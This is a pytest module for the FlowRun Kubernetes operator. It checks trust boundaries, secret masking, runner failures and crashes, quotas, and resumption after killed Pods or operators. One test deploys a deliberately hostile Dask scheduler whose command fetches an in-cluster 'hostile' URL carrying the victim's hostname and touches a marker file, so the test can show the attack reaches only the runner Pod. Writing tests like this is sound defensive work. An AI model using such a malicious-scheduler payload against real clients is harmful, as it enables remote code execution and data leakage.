"""FlowRuns run in runner Pods on the real node: the trust boundary of docs/install.md.

The operator runs as a host process on the product path (no --allow-in-process) against the
node's API server; every flow runs in a runner Pod of its FlowRun (the project's image, its own
ServiceAccount), which writes the run's status itself. Shown here with real Pods: a Dask
scheduler that attacks its clients reaches only the runner; parametersFrom arrive through the
kubelet; a runner that cannot start, crashes (its log's tail in the run's message) or is killed
mid-run; a namespace quota that requires requests; an operator killed mid-run.
"""

from __future__ import annotations

import json
import uuid
from pathlib import Path
from typing import Any

import pytest

from flowrun.dev.tool import ToolFailed
from flowrun.dev.waiting import wait_for
from support.flowruns import FlowRuns
from support.nodeops import HostOperator, PodOperator

NodeOperator = HostOperator | PodOperator

pytestmark = [pytest.mark.controlplane, pytest.mark.node, pytest.mark.slow]

HERE = Path(__file__).resolve().parent
KINDS = ("jobs", "serviceaccounts", "roles", "rolebindings", "pods")


def apply(dev_node: Any, namespace: str, *objs: dict[str, Any]) -> None:
    items = json.dumps({"apiVersion": "v1", "kind": "List", "items": list(objs)})
    dev_node.kubectl("apply", "-n", namespace, "-f", "-", input=items)


def owned_by(frs: FlowRuns, uid: str) -> dict[str, list[str]]:
    """Every object of KINDS that the FlowRun owns, directly or through its Job."""
    found: dict[str, list[str]] = {}
    for kind in KINDS:
        for item in frs.kubectl.json("get", kind, "-n", frs.namespace)["items"]:
            labels = item["metadata"].get("labels") or {}
            refs = item["metadata"].get("ownerReferences", [])
            if labels.get("flowrun.dev/flowrun-uid") == uid or any(r["uid"] == uid for r in refs):
                found.setdefault(kind, []).append(item["metadata"]["name"])
    return found


def uid_of(frs: FlowRuns, name: str) -> str:
    obj = frs.get(name)
    assert obj is not None
    return str(obj["metadata"]["uid"])


def finished(frs: FlowRuns, name: str, the_operator: NodeOperator, timeout: float = 180) -> Any:
    try:
        return frs.wait_phase(name, timeout=timeout)
    except TimeoutError as exc:
        raise AssertionError(f"{exc}\n{the_operator.log_text()[-3000:]}") from None


def test_a_flow_runs_in_its_runner_pod_and_secrets_come_from_the_kubelet(
    the_operator: NodeOperator, frs: FlowRuns
) -> None:
    secret = "s3cr3t-" + uuid.uuid4().hex
    frs.kubectl(
        "create",
        "secret",
        "generic",
        "creds",
        "-n",
        frs.namespace,
        f"--from-literal=token={secret}",
    )
    spec = {
        "flow": {
            "parameters": [{"name": "token", "required": True}],
            "tasks": [
                {"name": "where", "fn": "socket:gethostname"},
                {"name": "size", "fn": "builtins:len", "args": [{"parameter": "token"}]},
                {"name": "echo", "fn": "builtins:str", "args": [{"parameter": "token"}]},
            ],
        },
        "executor": {"type": "Local"},
        "parametersFrom": [{"name": "token", "secretKeyRef": {"name": "creds", "key": "token"}}],
        "returnTasks": ["where", "size", "echo"],
    }
    frs.apply("inpod", spec)
    uid = uid_of(frs, "inpod")
    status = finished(frs, "inpod", the_operator)
    assert status["phase"] == "Succeeded", status
    job = f"fr-inpod-{uid.replace('-', '')[:8]}-runner"
    assert status["results"]["where"].startswith(f"{job}-"), status["results"]  # the runner Pod
    assert status["results"]["size"] == len(secret)
    assert status["results"]["echo"] == "***"  # masked by the runner, as by the operator
    reasons = frs.event_reasons("inpod")
    assert {"RunnerCreated", "Running", "Succeeded"} <= reasons, reasons
    events = json.dumps(frs.events("inpod"))
    assert secret not in events
    assert secret not in json.dumps(frs.get("inpod"))
    assert secret not in the_operator.log_text()
    wait_for(lambda: not owned_by(frs, uid), timeout=120, what="the runner objects to go")


def hostile_scheduler(dev_node: Any, namespace: str, command: str) -> None:
    """A real Dask scheduler (the project's image) that attacks every client that connects."""
    preload = (HERE / "hostile_scheduler.py").read_text()
    labels = {"app": "hostile"}
    config = {
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": {"name": "hostile"},
        "data": {"hostile_scheduler.py": preload},
    }
    pod = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": "hostile", "labels": labels},
        "spec": {
            "terminationGracePeriodSeconds": 1,
            "containers": [
                {
                    "name": "scheduler",
                    "image": dev_node.image,
                    "command": ["dask", "scheduler", "--preload", "/preload/hostile_scheduler.py"],
                    "env": [{"name": "HOSTILE_COMMAND", "value": command}],
                    "volumeMounts": [{"name": "preload", "mountPath": "/preload"}],
                }
            ],
            "volumes": [{"name": "preload", "configMap": {"name": "hostile"}}],
        },
    }
    service = {
        "apiVersion": "v1",
        "kind": "Service",
        "metadata": {"name": "hostile"},
        "spec": {
            "selector": labels,
            "ports": [{"name": "dask", "port": 8786}, {"name": "http", "port": 8000}],
        },
    }
    apply(dev_node, namespace, config, pod, service)


def test_a_hostile_scheduler_reaches_only_the_runner_pod(
    dev_node: Any, the_operator: NodeOperator, frs: FlowRuns
) -> None:
    """An External scheduler the FlowRun's author runs sends a pickled payload to its Dask
    client. The payload reports the host it ran on and would create a file where it runs: only
    the runner Pod runs it; the operator never talks to it (no such file where it runs)."""
    marker = f"/tmp/operator-was-attacked-{uuid.uuid4().hex[:8]}"
    report = (
        'python -c "import socket, urllib.request; urllib.request.urlopen('
        f"'http://hostile.{frs.namespace}.svc:8000/ran-in-' + socket.gethostname(), timeout=10)\""
    )
    hostile_scheduler(dev_node, frs.namespace, f"{report}; touch {marker}")
    address = f"tcp://hostile.{frs.namespace}.svc:8786"
    spec = {
        "flow": {"tasks": [{"name": "one", "fn": "operator:add", "args": [1, 2]}]},
        "executor": {"type": "Dask", "dask": {"cluster": "External", "address": address}},
        "activeDeadlineSeconds": 120,
    }
    frs.apply("victim", spec)
    uid = uid_of(frs, "victim")
    job = f"fr-victim-{uid.replace('-', '')[:8]}-runner"

    def reported() -> str | None:
        logs = frs.kubectl("logs", "hostile", "-n", frs.namespace, check=False).stdout
        lines = [line for line in logs.splitlines() if '"GET /ran-in-' in line]
        return lines[0] if lines else None

    try:
        line = wait_for(reported, timeout=180, what="the payload to run somewhere")
    except TimeoutError as exc:
        raise AssertionError(f"{exc}\n{the_operator.log_text()[-3000:]}") from None
    assert f"GET /ran-in-{job}-" in line, line  # in the runner Pod of this FlowRun
    assert not the_operator.file_exists(marker)  # never run by the operator
    assert "hostile" not in the_operator.log_text()  # the operator never even connected
    frs.kubectl("delete", "flowrun", "victim", "-n", frs.namespace, "--wait=false")
    wait_for(lambda: frs.get("victim") is None, timeout=120, what="the FlowRun to go")
    wait_for(lambda: not owned_by(frs, uid), timeout=120, what="the runner objects to go")
    assert not the_operator.file_exists(marker)


def test_a_runner_that_cannot_start_fails_the_run_with_the_pods_reason(
    dev_node: Any, the_operator: NodeOperator, frs: FlowRuns
) -> None:
    missing_image = {
        "type": "Dask",
        "dask": {"cluster": "Local", "image": "localhost/flowrun/absent:1"},
    }
    frs.apply(
        "noimage",
        {
            "flow": {"tasks": [{"name": "a", "fn": "operator:neg", "args": [1]}]},
            "executor": missing_image,
        },
    )
    frs.apply(
        "nosecret",
        {
            "flow": {
                "parameters": [{"name": "p", "required": True}],
                "tasks": [{"name": "a", "fn": "builtins:len", "args": [{"parameter": "p"}]}],
            },
            "executor": {"type": "Local"},
            "parametersFrom": [{"name": "p", "secretKeyRef": {"name": "absent", "key": "k"}}],
        },
    )
    uids = {n: uid_of(frs, n) for n in ("noimage", "nosecret")}
    image = finished(frs, "noimage", the_operator)
    assert image["phase"] == "Failed", image
    assert "ImagePullBackOff" in image["message"] or "ErrImage" in image["message"], image
    assert "localhost/flowrun/absent:1" in image["message"]
    secret = finished(frs, "nosecret", the_operator)
    assert secret["phase"] == "Failed", secret
    assert "Secret 'absent' not found" in secret["message"], secret
    assert {c["type"]: c for c in secret["conditions"]}["Stalled"]["reason"] == "SecretNotFound"
    for name, uid in uids.items():
        wait_for(lambda uid=uid: not owned_by(frs, uid), timeout=120, what=f"{name} cleaned up")


def test_a_runner_that_crashes_fails_the_run_with_the_tail_of_its_log(
    the_operator: NodeOperator, frs: FlowRuns
) -> None:
    """The runner process dies (a task calls os._exit in it, after printing) in each of the
    Job's Pods: the kubelet puts its log's tail into the Pod's status, and the run's message
    carries it after the Job gives up, although the Pods are deleted at cleanup. The secret the
    task printed with its last words is masked there, and so is what a shell it started wrote
    to descriptor 2 (never passing Python's streams): the runner masked its own descriptors."""
    last_words = f"last words {uuid.uuid4().hex[:8]}"
    secret = "s3cr3t-" + uuid.uuid4().hex
    frs.kubectl("create", "secret", "generic", "creds", "-n", frs.namespace,
                f"--from-literal=token={secret}")  # fmt: skip
    token = {"parameter": "token"}
    frs.apply(
        "crash",
        {
            "flow": {
                "parameters": [{"name": "token", "required": True}],
                "tasks": [
                    # `sh: 1: <the secret>: not found`, into the pipe over descriptor 2: out
                    # before the next line Python writes there (the task's log line)
                    {"name": "shelled", "fn": "os:system", "args": [token]},
                    {
                        "name": "say",
                        "fn": "builtins:print",
                        "args": [last_words, token],
                        "upstream": ["shelled"],
                    },
                    {"name": "die", "fn": "os:_exit", "args": [3], "upstream": ["say"]},
                ],
            },
            "executor": {"type": "Local"},
            "parametersFrom": [
                {"name": "token", "secretKeyRef": {"name": "creds", "key": "token"}}
            ],
        },
    )
    uid = uid_of(frs, "crash")
    status = finished(frs, "crash", the_operator, timeout=420)  # three Pods, with backoff
    assert status["phase"] == "Failed", status
    assert {c["type"]: c for c in status["conditions"]}["Stalled"]["reason"] == "RunnerFailed"
    message = status["message"]
    assert "Error (exit code 3)" in message, message
    assert f"The last lines of its log (Pod fr-crash-{uid.replace('-', '')[:8]}-runner-" in (
        message
    ), message
    tail = message.split("The last lines of its log", 1)[1].splitlines()
    assert f"{last_words} ***" in tail, message  # printed by the task, just before it died
    assert any("***" in line and "not found" in line for line in tail), message  # the shell's
    assert secret not in message
    events = json.dumps(frs.events("crash"))
    assert last_words in events  # the Warning Event says it too
    assert secret not in events
    wait_for(lambda: not owned_by(frs, uid), timeout=120, what="the runner objects to go")
    assert frs.status("crash")["message"] == message  # kept after the Pods are gone


def test_a_quota_that_requires_requests_admits_the_runner_and_the_run_succeeds(
    dev_node: Any, the_operator: NodeOperator, frs: FlowRuns
) -> None:
    """Runner Pods have requests (the chart's runner.resources): a namespace whose ResourceQuota
    requires them runs FlowRuns (without them, the API server refuses every Pod there: "must
    specify requests.cpu"; tests/controller/test_runner_quota.py shows the charge)."""
    hard = {"requests.cpu": "1", "requests.memory": "1Gi"}
    quota = {"kind": "ResourceQuota", "apiVersion": "v1", "metadata": {"name": "q"},
             "spec": {"hard": hard}}  # fmt: skip
    apply(dev_node, frs.namespace, quota)

    def used() -> dict[str, str]:
        got = frs.kubectl.json("get", "resourcequota", "q", "-n", frs.namespace)
        found: dict[str, str] = (got.get("status") or {}).get("used") or {}
        return found

    wait_for(lambda: set(used()) == set(hard), timeout=60, what="the quota to be counted")
    frs.apply(
        "quota",
        {
            "flow": {"tasks": [{"name": "a", "fn": "operator:add", "args": [1, 2]}]},
            "executor": {"type": "Local"},
            "returnTasks": ["a"],
        },
    )
    status = finished(frs, "quota", the_operator)
    assert status["phase"] == "Succeeded", status
    assert status["results"] == {"a": 3}


def dask_cluster(dev_node: Any, namespace: str) -> str:
    """A plain Dask scheduler and worker in Pods (an External cluster): results published on it
    outlive any runner Pod. Returns the scheduler's address."""

    def pod(name: str, command: list[str]) -> dict[str, Any]:
        return {
            "apiVersion": "v1",
            "kind": "Pod",
            "metadata": {"name": name, "labels": {"app": name}},
            "spec": {
                "terminationGracePeriodSeconds": 1,
                "containers": [{"name": name, "image": dev_node.image, "command": command}],
            },
        }

    service = {
        "apiVersion": "v1",
        "kind": "Service",
        "metadata": {"name": "dask"},
        "spec": {"selector": {"app": "dask"}, "ports": [{"port": 8786}]},
    }
    address = f"tcp://dask.{namespace}.svc:8786"
    apply(
        dev_node,
        namespace,
        service,
        pod("dask", ["dask", "scheduler"]),
        pod("worker", ["dask", "worker", address, "--nthreads", "2", "--no-dashboard"]),
    )
    return address


def counted_flow(address: str) -> dict[str, Any]:
    """`mark` leaves one file per run on the worker; `hold` keeps the run busy for a while."""
    return {
        "flow": {
            "tasks": [
                {
                    "name": "mark",
                    "fn": "tempfile:mkstemp",
                    "kwargs": {"prefix": "mark-", "dir": "/tmp"},
                },
                {"name": "hold", "fn": "time:sleep", "args": [25], "upstream": ["mark"]},
                {"name": "last", "fn": "operator:add", "args": [1, 2], "upstream": ["hold"]},
            ]
        },
        "executor": {"type": "Dask", "dask": {"cluster": "External", "address": address}},
        "returnTasks": ["last"],
    }


def marks(frs: FlowRuns) -> int:
    code = "import glob; print(len(glob.glob('/tmp/mark-*')))"
    out = frs.kubectl("exec", "worker", "-n", frs.namespace, "--", "python", "-c", code).stdout
    return int(out.strip())


def holding(frs: FlowRuns, name: str) -> bool:
    tasks = frs.status(name).get("tasks") or {}
    return bool(
        tasks.get("mark", {}).get("state") == "Success"
        and tasks.get("hold", {}).get("state") == "Running"
    )


def runner_pods(frs: FlowRuns, uid: str) -> list[str]:
    return owned_by(frs, uid).get("pods", [])


def test_a_runner_pod_killed_mid_run_is_replaced_and_resumes(
    dev_node: Any, the_operator: NodeOperator, frs: FlowRuns
) -> None:
    address = dask_cluster(dev_node, frs.namespace)
    frs.apply("resume", counted_flow(address))
    uid = uid_of(frs, "resume")
    wait_for(lambda: holding(frs, "resume"), timeout=240, what="mark done and hold running")
    [first] = runner_pods(frs, uid)
    frs.kubectl("delete", "pod", first, "-n", frs.namespace, "--wait=false")
    status = finished(frs, "resume", the_operator, timeout=240)
    assert status["phase"] == "Succeeded", status
    assert status["results"] == {"last": 3}
    assert marks(frs) == 1  # the finished task did not run again in the new runner Pod
    assert "Resumed" in frs.event_reasons("resume")
    wait_for(lambda: not owned_by(frs, uid), timeout=120, what="the runner objects to go")


def children_flow(address: str) -> dict[str, Any]:
    """20 mapped children in 2 batches of 10, 2 s each; a child leaves a file when it starts
    and one when it ends, on the worker."""
    commands = [
        f"touch /tmp/kid-{i}-start-$$; sleep 2; touch /tmp/kid-{i}-done-$$; echo {i}"
        for i in range(20)
    ]
    return {
        "flow": {
            "tasks": [
                {"name": "commands", "fn": "builtins:list", "args": [commands]},
                {
                    "name": "kids",
                    "fn": "subprocess:getoutput",
                    "args": [{"task": "commands", "map": True}],
                    "mapBatchSize": 10,
                },
            ]
        },
        "executor": {"type": "Dask", "dask": {"cluster": "External", "address": address}},
        "returnTasks": ["kids"],
    }


def kid_files(frs: FlowRuns, what: str) -> dict[int, int]:
    """How many files of kind `what` (start, done) each child left on the worker."""
    code = (
        "import collections, glob, json; "
        f"c = collections.Counter(int(p.split('-')[1]) for p in glob.glob('/tmp/kid-*-{what}-*')); "
        "print(json.dumps(c))"
    )
    out = frs.kubectl("exec", "worker", "-n", frs.namespace, "--", "python", "-c", code).stdout
    return {int(k): v for k, v in json.loads(out).items()}


def test_a_runner_pod_killed_mid_batch_runs_no_finished_child_again(
    dev_node: Any, the_operator: NodeOperator, frs: FlowRuns
) -> None:
    """kill -9 of the runner (no SIGTERM): the batches in flight publish the children they
    finished from the worker, and the next runner Pod runs only the others."""
    address = dask_cluster(dev_node, frs.namespace)
    frs.apply("killed", children_flow(address))
    uid = uid_of(frs, "killed")

    def four_done() -> bool:
        try:
            return len(kid_files(frs, "done")) >= 4
        except ToolFailed:  # the worker Pod is not up yet
            return False

    wait_for(four_done, timeout=240, what="4 children done")
    done = set(kid_files(frs, "done"))  # finished before the kill: listed before it
    [first] = runner_pods(frs, uid)
    pod = frs.kubectl.json("get", "pod", first, "-n", frs.namespace)
    [container] = pod["status"]["containerStatuses"]
    dev_node.node.kill_container(container["containerID"])
    status = finished(frs, "killed", the_operator, timeout=300)
    assert status["phase"] == "Succeeded", status
    assert status["results"] == {"kids": [str(i) for i in range(20)]}
    assert "Resumed" in frs.event_reasons("killed")
    started = kid_files(frs, "start")
    assert {i: started.get(i) for i in done} == dict.fromkeys(done, 1), started
    assert set(started) == set(range(20)), started
    # At most the child each batch was running runs again, not the rest of its batch.
    assert sum(started.values()) <= 22, started
    wait_for(lambda: not owned_by(frs, uid), timeout=120, what="the runner objects to go")


def test_killing_the_operator_mid_run_does_not_interrupt_the_run(
    dev_node: Any, the_operator: NodeOperator, frs: FlowRuns
) -> None:
    address = dask_cluster(dev_node, frs.namespace)
    frs.apply("steady", counted_flow(address))
    uid = uid_of(frs, "steady")
    wait_for(lambda: holding(frs, "steady"), timeout=240, what="mark done and hold running")
    assert len(runner_pods(frs, uid)) == 1
    the_operator.kill()
    # Whether an operator is back yet or not, the runner Pod finishes the run and writes its end.
    status = frs.wait_phase("steady", timeout=240)
    assert status["phase"] == "Succeeded", status
    assert status["results"] == {"last": 3}
    assert marks(frs) == 1
    # The same Pod ran it all: a runner Pod that takes a run over says "Resumed" (the test
    # above); its Pods are not looked at here, a new operator may have cleaned up already.
    reasons = frs.event_reasons("steady")
    assert "Resumed" not in reasons, reasons
    the_operator.restart()
    try:
        wait_for(lambda: not owned_by(frs, uid), timeout=120, what="the new operator to clean up")
    except TimeoutError as exc:
        left = owned_by(frs, uid)
        raise AssertionError(f"{exc}\nleft: {left}\n{the_operator.log_text()[-6000:]}") from None
